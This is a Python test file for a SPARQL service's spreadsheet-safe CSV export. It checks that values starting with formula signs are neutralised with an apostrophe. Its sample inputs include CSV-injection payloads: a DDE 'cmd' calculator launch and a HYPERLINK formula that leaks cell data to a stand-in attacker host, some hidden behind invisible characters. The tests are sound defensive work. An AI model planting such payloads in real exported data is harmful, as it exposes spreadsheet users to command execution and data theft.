"""CSV for spreadsheets: no cell is a formula, and no text is lost."""

from __future__ import annotations

import csv
import io
import time

import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st
from pyoxigraph import Store

from kg.answers import evaluate
from kg.cli import main
from kg.formats import SPREADSHEET, by_name
from kg.spreadsheets import harmless
from kg.terms import Literal, NamedNode, Quad
from server.app import create_app

SIGNS = "=+-@＝＋－＠"
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    '"=1+1',
    "＝1+1",
    "a;=1+1",
    'a";"=1+1&"',
    "a\t=1+1",
    "a\r\n=1+1",
)


def cells(data, delimiter=","):
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def begins_a_formula(cell):
    """Tell whether a spreadsheet would compute *cell*, white space left aside."""
    seen = cell.lstrip("\ufeff\u200b\u202e \t\r\n")
    return seen[:1] in tuple(SIGNS) and not is_number(seen)


def is_number(text):
    try:
        return bool(float(text)) or True
    except ValueError:
        return False


def written(engine, *texts):
    values = " ".join(str(Literal(text)) for text in texts)
    return evaluate(engine, f"SELECT ?a ?b {{ VALUES ?a {{ {values} }} }}")


@pytest.fixture
def engine():
    return Store()


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_the_line_is_cut_at(engine, text, delimiter):
    data = written(engine, "first", text).serialize(SPREADSHEET)
    for row in cells(data, delimiter):
        assert not any(map(begins_a_formula, row)), row


@pytest.mark.parametrize("text", FORMULAS)
def test_the_standard_csv_keeps_the_text_as_it_is(engine, text):
    data = written(engine, text).serialize(by_name("csv"))
    assert cells(data)[1][0] == text


@pytest.mark.parametrize(
    "text",
    [
        "-5",
        "+5",
        "-1.5e-3",
        ".5",
        "0",
        "a-b",
        "a = b",
        "12-11",
        "x@y.example",
        "https://w3id.org/exequatur/id/kenya",
        "",
        "été; fin",
    ],
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text


def test_a_sham_number_is_no_number(engine):
    integer = NamedNode("http://www.w3.org/2001/XMLSchema#integer")
    sham = Literal("-1+1|cmd", datatype=integer)
    engine.add(Quad(NamedNode("urn:a"), NamedNode("urn:b"), sham))
    answer = evaluate(engine, "SELECT ?o { ?s ?p ?o }")
    assert cells(answer.serialize(SPREADSHEET)) == [["o"], ["'-1+1|cmd"]]


@given(st.text(alphabet=st.sampled_from([*SIGNS, *"ab1;\"' ,\t\r\n\u200b"])))
@example('x";"=1+1&"')
def test_nothing_but_apostrophes_is_added(text):
    kept = harmless(text)
    rest = iter(kept)
    assert all(character in rest for character in text)
    assert kept.replace("'", "") == text.replace("'", "")
    assert not begins_a_formula(kept)
    for part in (
        kept.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")
    ):
        assert not begins_a_formula(part.lstrip('"'))


@pytest.mark.parametrize("piece", ["\t", ";", '"', " ", "\t;", "=", ";="])
def test_it_takes_a_time_that_grows_with_the_length(piece):
    began = time.process_time()
    harmless(piece * 1_000_000)
    assert time.process_time() - began < 5


def test_a_question_of_yes_or_no_is_a_table_too(engine):
    assert cells(evaluate(engine, "ASK {}").serialize(SPREADSHEET)) == [
        ["answer"],
        ["true"],
    ]


def test_the_server_sends_it_to_those_who_name_it(graph, settings):
    client = create_app(graph, settings).test_client()
    query = 'SELECT ?x { VALUES ?x { "=1+1" -5 "é" } }'
    given = {"query": query, "format": "spreadsheet"}
    answer = client.get("/sparql", query_string=given)
    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.data.startswith(b"\xef\xbb\xbf")
    assert cells(answer.data) == [["x"], ["'=1+1"], ["-5"], ["é"]]
    plain = client.get("/sparql", query_string={"query": query, "format": "csv"})
    assert plain.data == b"x\r\n=1+1\r\n-5\r\n\xc3\xa9\r\n"
    by_type = client.get("/sparql?query=ASK%7B%7D", headers={"Accept": "text/csv"})
    assert by_type.data == b"true"
    graphs = {"query": "CONSTRUCT WHERE { ?s ?p ?o }", "format": "spreadsheet"}
    assert client.get("/sparql", query_string=graphs).status_code == 406
    saved = client.get("/queries/meetings?format=spreadsheet")
    assert saved.data.startswith(b"\xef\xbb\xbf")
    shown = client.get("/queries/meetings", headers={"Accept": "text/html"})
    assert "format=spreadsheet" in shown.text


def test_the_command_writes_it(shipped_store, tmp_path):
    out = tmp_path / "posts.csv"
    arguments = ["--store", str(shipped_store), "run", "posts-of-state"]
    done = CliRunner().invoke(main, [*arguments, "-f", "spreadsheet", "-o", str(out)])
    assert done.exit_code == 0, done.stderr
    assert len(cells(out.read_bytes())) > 1
